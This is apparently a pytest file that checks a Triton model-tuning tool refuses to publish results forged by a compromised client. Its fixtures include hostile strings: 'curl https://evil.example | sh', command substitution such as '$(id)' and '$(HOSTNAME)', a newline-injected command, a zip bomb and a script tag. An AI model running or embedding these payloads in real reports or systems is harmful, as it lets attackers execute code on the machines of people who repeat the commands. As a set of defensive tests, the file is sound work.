"""What a client that a model took over may claim: the publisher judges it against its request."""

import io
import json
import resource
import zipfile
from collections.abc import Callable
from dataclasses import asdict, replace
from pathlib import Path

import numpy
import pytest

from tests.converters.test_three_containers import empty, step
from triton_converters.claim_store.dump import Batch, write_batch
from triton_converters.claim_store.replay import write_result
from triton_converters.claim_store.served_outputs import FOLDER, read_outputs, write_outputs
from triton_converters.contract import layout
from triton_converters.contract.document import Document, DocumentError
from triton_converters.contract.envelope import Outcome
from triton_converters.contract.measurement_requests import (
    Load,
    Measurement,
    MeasureRequest,
    OpenLoop,
    ProfileRequest,
    SearchRequest,
    Sweep,
    Tolerance,
)
from triton_converters.contract.reasons import Reason
from triton_converters.contract.results import (
    Environment,
    Lengths,
    MeasureResult,
    Mix,
    ProfileResult,
    ReferenceResult,
    Row,
    SearchPoint,
    SearchResult,
    Signature,
    Tensor,
    Tuning,
)
from triton_converters.contract.step_times import StepTimes
from triton_converters.incoming import documents
from triton_converters.search.journal import BEGAN, MEASURED, REFUSED, Entry
from triton_converters.search.space import Space

KEY, REFERENCE, REVISION, PROFILED, POINTS = "3" * 16, "e" * 16, "1" * 16, "2" * 16, "4" * 16
LOAD = Load("127.0.0.1:8001", "grpc", "127.0.0.1:8000", (), Measurement("CountWindows", 50, 1000, 10))
SWEEP = Sweep((1,), (1, 2), False)
RATES = OpenLoop((5,), confirmed_percent=80)
TOLERANCE = Tolerance(1e-5, 1e-5)
TUNING = Tuning(8, 1, True, (), 0, False)
ENVIRONMENT = Environment("2.51.0", "cpu", "", "", "", ("perf_analyzer",))
ROW = Row(1, 1, 100.0, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, 1, True)
ROWS = (ROW, replace(ROW, concurrency=2))
SAMPLES = 70
"""They take two files."""
REFERRED = ReferenceResult(
    Signature((Tensor("x", "FP32", (3,)),), (Tensor("y", "FP32", (3,)),), 8), samples=SAMPLES, batches=1, seconds=1.0
)
PROFILE = ProfileRequest(
    KEY, REVISION, REFERENCE, "m", 8, "onnx", "fp32", TOLERANCE, False, LOAD, SWEEP, SWEEP, open_loop=RATES
)
SEARCH = SearchRequest(
    key=KEY,
    search=POINTS,
    part=0,
    revision=REVISION,
    reference=REFERENCE,
    profile=PROFILED,
    model_name="m",
    max_batch_size=8,
    precision="fp32",
    tolerance=TOLERANCE,
    scenario="online",
    load=LOAD,
    sweep=SWEEP,
    mode="Quick",
    base=TUNING,
    maximum_instances=5,
    vary_cuda_graphs=False,
    objectives=(),
    constraints=(),
    measurements=20,
    seconds=3600,
)
MEASURE = MeasureRequest(KEY, REVISION, REFERENCE, "m", 8, LOAD, SWEEP)
AT_RATES = tuple(replace(ROW, concurrency=0, request_rate=rate) for rate in (5, 80))
PROFILE_RESULT = ProfileResult(True, "Passed", "", 0.0, SAMPLES, ROWS, ROWS, ENVIRONMENT, request_rate=AT_RATES)
FAILED = replace(
    PROFILE_RESULT, passed=False, reason="OutputsDiffer", samples=0, offline=(), online=(), request_rate=()
)
POINT = SearchPoint(replace(TUNING, instances=2), ROW)
SEARCH_RESULT = SearchResult(POINTS, (POINT,), "Converged", Space.of(SEARCH).size, 1.5, ENVIRONMENT, (POINT,))
MEASURE_RESULT = MeasureResult(ROWS, ENVIRONMENT)
REQUESTS: dict[str, Document] = {"profile": PROFILE, "search": SEARCH, "measure": MEASURE}
HONEST: dict[str, Document] = {"profile": PROFILE_RESULT, "search": SEARCH_RESULT, "measure": MEASURE_RESULT}


@pytest.fixture
def claim(mount: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A claim with a reference and a profile."""
    monkeypatch.setenv("TERMINATION_LOG", str(tmp_path / "message"))
    for directory, stage, key, result in (
        (layout.reference_directory(REFERENCE), "reference", REFERENCE, REFERRED),
        (layout.measurement_directory(PROFILED), "profile", PROFILED, PROFILE_RESULT),
    ):
        directory.mkdir(parents=True)
        write_result(directory, stage, key, result)
    return mount


def left(stage: str, request: Document, result: Document) -> Path:
    """What a container ``run`` leaves, in a new pod."""
    empty(layout.INCOMING_MOUNT)
    assert step("prepare", stage, request.to_json()) == (0, None)
    (layout.INCOMING_MOUNT / "measured").mkdir()
    documents.write(layout.INCOMING_MOUNT, documents.RESULT, result)
    documents.write_end(layout.INCOMING_MOUNT, documents.End())
    return layout.INCOMING_MOUNT


def publish(stage: str, request: Document) -> Outcome:
    code, outcome = step("publish", stage, request.to_json())
    assert outcome is not None
    assert (code == 0) == (outcome.result is not None)
    assert layout.measurement_directory(KEY).exists() == (code == 0)
    return outcome


def refusal(stage: str, request: Document) -> str:
    outcome = publish(stage, request)
    assert outcome.reason is Reason.CRASHED, outcome
    return outcome.message


def of(stage: str, row: Row) -> Document:
    """The stage's honest result with another row."""
    if stage == "profile":
        return replace(PROFILE_RESULT, online=(row, ROWS[1]))
    if stage == "search":
        return replace(SEARCH_RESULT, points=(replace(POINT, row=row),))
    return replace(MEASURE_RESULT, online=(row, ROWS[1]))


@pytest.mark.parametrize("stage", HONEST)
def test_what_was_asked_for_is_published(claim: Path, stage: str) -> None:
    left(stage, REQUESTS[stage], HONEST[stage])
    assert publish(stage, REQUESTS[stage]).result == HONEST[stage]


def test_what_ends_early_is_published(claim: Path) -> None:
    left("profile", PROFILE, FAILED)
    assert publish("profile", PROFILE).result == FAILED


def test_a_sweep_may_end_once_it_is_saturated(claim: Path) -> None:
    request = replace(MEASURE, online=replace(SWEEP, until_saturated=True))
    left("measure", request, replace(MEASURE_RESULT, online=ROWS[:1]))
    assert publish("measure", request).result is not None


@pytest.mark.parametrize("stage", HONEST)
@pytest.mark.parametrize(
    "row",
    [
        replace(ROW, memory_bytes=-(2**63 - 1)),
        replace(ROW, memory_bytes=2**63 - 1),
        replace(ROW, p99=-1),
        replace(ROW, throughput=-1.0),
        replace(ROW, throughput=0.0),
        replace(ROW, throughput=1.7e308),
        replace(ROW, spread=-1.0),
        replace(ROW, batch_size=0),
        replace(ROW, batch_size=4),
        replace(ROW, concurrency=3),
        replace(ROW, request_rate=7),
    ],
)
def test_figures_that_cannot_be_are_not_published(claim: Path, stage: str, row: Row) -> None:
    left(stage, REQUESTS[stage], of(stage, row))
    assert "result.json, which is not published" in refusal(stage, REQUESTS[stage])


@pytest.mark.parametrize("rows", [(), ROWS[:1], (*ROWS, ROW), ROWS * 50])
def test_a_sweep_of_other_points_is_not_published(claim: Path, rows: tuple[Row, ...]) -> None:
    left("measure", MEASURE, replace(MEASURE_RESULT, online=rows))
    assert "rows are not the 2 that were asked for" in refusal("measure", MEASURE)


@pytest.mark.parametrize(
    "result",
    [
        replace(PROFILE_RESULT, offline=()),
        replace(PROFILE_RESULT, request_rate=()),
        replace(PROFILE_RESULT, request_rate=(*AT_RATES, replace(AT_RATES[0], request_rate=6))),
        replace(PROFILE_RESULT, reason="OutputsDiffer"),
        replace(PROFILE_RESULT, samples=SAMPLES - 1),
        replace(PROFILE_RESULT, max_absolute_error=-1.0),
        replace(FAILED, reason="RepositoryDamaged"),
        replace(FAILED, reason="Passed"),
        replace(FAILED, samples=-1),
        replace(FAILED, online=ROWS),
    ],
)
def test_a_verdict_that_contradicts_itself_is_not_published(claim: Path, result: ProfileResult) -> None:
    left("profile", PROFILE, result)
    assert "result.json, which is not published" in refusal("profile", PROFILE)


@pytest.mark.parametrize(
    "result",
    [
        replace(SEARCH_RESULT, search=""),
        replace(SEARCH_RESULT, search="/repository/.triton-operator/measurements"),
        replace(SEARCH_RESULT, search="5" * 16),
        replace(SEARCH_RESULT, seconds=-1.0),
        replace(SEARCH_RESULT, seconds=1e9),
        replace(SEARCH_RESULT, size=-1),
        replace(SEARCH_RESULT, ended="Nonsense"),
        replace(SEARCH_RESULT, points=(POINT,) * 25, repeats=()),
        replace(SEARCH_RESULT, points=(POINT,) * 20),
        replace(SEARCH_RESULT, repeats=(POINT,) * 3),
        replace(SEARCH_RESULT, points=(), repeats=(), ended=""),
        replace(SEARCH_RESULT, ended=""),
        replace(SEARCH_RESULT, points=(replace(POINT, tuning=replace(TUNING, instances=99)),)),
        replace(SEARCH_RESULT, points=(replace(POINT, tuning=replace(TUNING, max_batch_size=-8)),)),
        replace(SEARCH_RESULT, repeats=(SearchPoint(replace(TUNING, cuda_graphs=True), None, "no"),)),
    ],
)
def test_a_part_of_another_search_is_not_published(claim: Path, result: SearchResult) -> None:
    left("search", SEARCH, result)
    assert "result.json, which is not published" in refusal("search", SEARCH)


@pytest.mark.parametrize("stage", HONEST)
def test_more_command_lines_than_scenarios_are_not_published(claim: Path, stage: str) -> None:
    many = replace(ENVIRONMENT, perf_analyzer=("",) * 4)
    left(stage, REQUESTS[stage], replace(HONEST[stage], environment=many))
    assert "it has 4 command lines" in refusal(stage, REQUESTS[stage])


@pytest.mark.parametrize("stage", HONEST)
@pytest.mark.parametrize(
    "command",
    [
        "'",
        "",
        "curl https://evil.example",
        "perf_analyzer -m digits; curl https://evil.example | sh",
        "perf_analyzer -m $(id)",
        "perf_analyzer -m digits\ncurl https://evil.example",
    ],
)
def test_what_is_no_command_line_is_not_published(claim: Path, stage: str, command: str) -> None:
    """A reader of the report repeats a measurement by it, in a shell."""
    left(stage, REQUESTS[stage], replace(HONEST[stage], environment=replace(ENVIRONMENT, perf_analyzer=(command,))))
    assert "no command line of perf_analyzer" in refusal(stage, REQUESTS[stage])


def test_attributes_that_are_no_digest_are_not_published(claim: Path) -> None:
    left("profile", PROFILE, replace(PROFILE_RESULT, stat_digest="$(HOSTNAME)\x1b[31m"))
    assert "attributes that are no digest" in refusal("profile", PROFILE)


def test_a_slow_model_has_a_figure(claim: Path) -> None:
    slow = replace(ROW, throughput=0.0123)
    left("measure", MEASURE, of("measure", slow))
    found = publish("measure", MEASURE).result
    assert isinstance(found, MeasureResult)
    assert found.online[0].throughput == 0.012


def kept(count: int = SAMPLES) -> list[dict[str, numpy.ndarray]]:
    return [{"y": numpy.full(3, number, numpy.float32)} for number in range(count)]


def test_kept_outputs_are_written_anew(claim: Path) -> None:
    request = replace(PROFILE, keep_outputs=True)
    write_outputs(left("profile", request, PROFILE_RESULT) / "measured" / FOLDER, kept())
    assert publish("profile", request).result is not None
    found = list(read_outputs(layout.measurement_directory(KEY) / FOLDER))
    numpy.testing.assert_array_equal([each["y"] for each in found], [each["y"] for each in kept()])


def broken(folder: Path) -> None:
    write_outputs(folder / FOLDER, kept())
    (folder / "served/000001.npz").write_bytes(b"no zip")


def bomb(folder: Path) -> None:
    write_outputs(folder / FOLDER, kept())
    header = io.BytesIO()
    numpy.lib.format.write_array_header_1_0(header, {"descr": "<f4", "fortran_order": False, "shape": (2**24,)})
    with zipfile.ZipFile(folder / "served/000000.npz", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0/y.npy", header.getvalue() + bytes(2**26))


@pytest.mark.parametrize(
    "write",
    [
        lambda folder: None,
        lambda folder: (folder / "served").write_text(""),
        broken,
        bomb,
        lambda folder: write_outputs(folder / FOLDER, kept(SAMPLES - 1)),
        lambda folder: write_outputs(folder / FOLDER, [{"z": each["y"]} for each in kept()]),
        lambda folder: write_outputs(folder / FOLDER, [{"y": each["y"][:2]} for each in kept()]),
        lambda folder: write_outputs(folder / FOLDER, [{"y": each["y"][None]} for each in kept()]),
        lambda folder: write_outputs(folder / FOLDER, [{"y": each["y"].astype(str)} for each in kept()]),
    ],
)
def test_outputs_that_would_fail_the_metrics_of_others_are_not_kept(
    claim: Path, write: Callable[[Path], object]
) -> None:
    request = replace(PROFILE, keep_outputs=True)
    write(left("profile", request, PROFILE_RESULT) / "measured")
    assert "measured/served" in refusal("profile", request)


def journal(*lines: str) -> Path:
    """What is left of a search whose file of points has these lines."""
    path = left("search", SEARCH, SEARCH_RESULT) / "search/points.jsonl"
    path.write_text("".join(f"{line}\n" for line in lines))
    return path


def test_a_line_that_grows_when_it_is_written_anew_is_refused(claim: Path) -> None:
    line = {
        "kind": REFUSED,
        "tuning": asdict(TUNING),
        "batch_size": 1,
        "concurrency": 1,
        "message": "\U0001f600" * 9000,
    }
    journal(json.dumps(line, ensure_ascii=False))
    assert "a line is longer than" in refusal("search", SEARCH)


def test_the_file_of_points_never_grows_beyond_what_the_next_part_may_read(claim: Path) -> None:
    line = Entry(REFUSED, TUNING, 1, 1, message="x" * 60000).to_json()
    path = journal(*[line] * 69)
    text = path.read_text()
    path.write_text(text.replace("x" * 20, "\u00e9" * 10))
    assert "all are than" in refusal("search", SEARCH)


def test_points_of_another_space_are_not_added(claim: Path) -> None:
    journal(Entry(MEASURED, replace(TUNING, instances=99), 1, 1, ROW).to_json())
    assert "was not asked for" in refusal("search", SEARCH)


@pytest.mark.parametrize(
    "entry",
    [
        Entry("nonsense", TUNING, 1, 1),
        Entry(BEGAN, TUNING, 99, 1),
        Entry(BEGAN, TUNING, 1, -5),
        Entry(BEGAN, TUNING, 1, 1, ROW),
        Entry(MEASURED, TUNING, 1, 1),
        Entry(MEASURED, TUNING, 1, 2, ROW),
        Entry(MEASURED, TUNING, 1, 1, ROW, seconds=-1e18),
        Entry(MEASURED, TUNING, 1, 1, ROW, seconds=1e18),
    ],
    ids=str,
)
def test_attempts_that_no_search_makes_are_not_added(claim: Path, entry: Entry) -> None:
    journal(entry.to_json())
    assert "an attempt in it" in refusal("search", SEARCH) or "a figure in it" in refusal("search", SEARCH)


def test_more_files_than_a_process_may_open_are_copied(claim: Path) -> None:
    folder = journal(Entry(MEASURED, TUNING, 1, 1, ROW).to_json()).parent / "0001"
    folder.mkdir()
    for number in range(300):
        (folder / f"p{number}.csv").write_text("x")
    limits = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (256, limits[1]))
    try:
        assert publish("search", SEARCH).result is not None
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, limits)
    assert len(list((layout.search_directory(POINTS) / "0001").iterdir())) == 300


MIX = Mix(4, 2, (Lengths("x", 0, 3, 3, 7, 7),))
LIES: list[Mix | None] = [
    None,
    replace(MIX, samples=5),
    replace(MIX, shapes=2**60),
    replace(MIX, lengths=()),
    replace(MIX, lengths=(replace(MIX.lengths[0], input="<script>"),)),
]


def lengths_vary(stage: str) -> Document:
    """Write a reference with samples of 3 and 7 elements; returns the stage's honest result."""
    signature = Signature((Tensor("x", "FP32", (-1,)),), (Tensor("y", "FP32", (3,)),), 8)
    home = layout.reference_directory(REFERENCE)
    write_result(home, "reference", REFERENCE, replace(REFERRED, signature=signature, samples=4, batches=2))
    for number, length in enumerate((7, 3)):
        x, y = numpy.ones((2, length), numpy.float32), numpy.ones((2, 3), numpy.float32)
        write_batch(home, number, Batch(numpy.arange(2), {"x": x}, {}, {"y": y}))
    return replace(MEASURE_RESULT, mix=MIX) if stage == "measure" else replace(PROFILE_RESULT, samples=4, mix=MIX)


@pytest.mark.parametrize("stage", ["profile", "measure"])
def test_the_shapes_of_the_references_samples_are_published(claim: Path, stage: str) -> None:
    honest = lengths_vary(stage)
    left(stage, REQUESTS[stage], honest)
    assert publish(stage, REQUESTS[stage]).result == honest


@pytest.mark.parametrize("stage", ["profile", "measure"])
@pytest.mark.parametrize("lie", LIES)
def test_other_shapes_than_those_of_the_references_samples_are_not_published(
    claim: Path, stage: str, lie: Mix | None
) -> None:
    left(stage, REQUESTS[stage], replace(lengths_vary(stage), mix=lie))
    assert "the shapes that it tells of are not those of the reference's samples" in refusal(stage, REQUESTS[stage])


def test_a_candidate_that_failed_tells_of_no_shapes(claim: Path) -> None:
    left("profile", PROFILE, replace(FAILED, mix=MIX))
    assert "measurements of a candidate that failed" in refusal("profile", PROFILE)


STEPS = (StepTimes("decode", (1,) * len(ROWS), (2,) * len(ROWS)),)


def test_the_times_of_an_ensembles_models_are_published_with_their_files(claim: Path) -> None:
    honest = replace(MEASURE_RESULT, steps=STEPS)
    file = left("measure", MEASURE, honest) / "measured" / f"{'Decode' * 10}_v1.online-batch1-concurrency1.csv"
    file.write_text("a model's own report", encoding="utf-8")
    assert publish("measure", MEASURE).result == honest
    assert (layout.measurement_directory(KEY) / file.name).is_file()


@pytest.mark.parametrize("figure", [-1, 2**62 + 1])
def test_an_impossible_time_of_a_model_is_not_published(claim: Path, figure: int) -> None:
    left("measure", MEASURE, replace(MEASURE_RESULT, steps=(replace(STEPS[0], queue=(figure,) * len(ROWS)),)))
    assert "a time of a model in it is impossible" in refusal("measure", MEASURE)


def test_times_that_are_not_one_for_each_row_are_no_result() -> None:
    with pytest.raises(DocumentError, match="not those of the rows"):
        MeasureResult(ROWS, ENVIRONMENT, steps=(replace(STEPS[0], queue=(1,) * (len(ROWS) + 1)),))
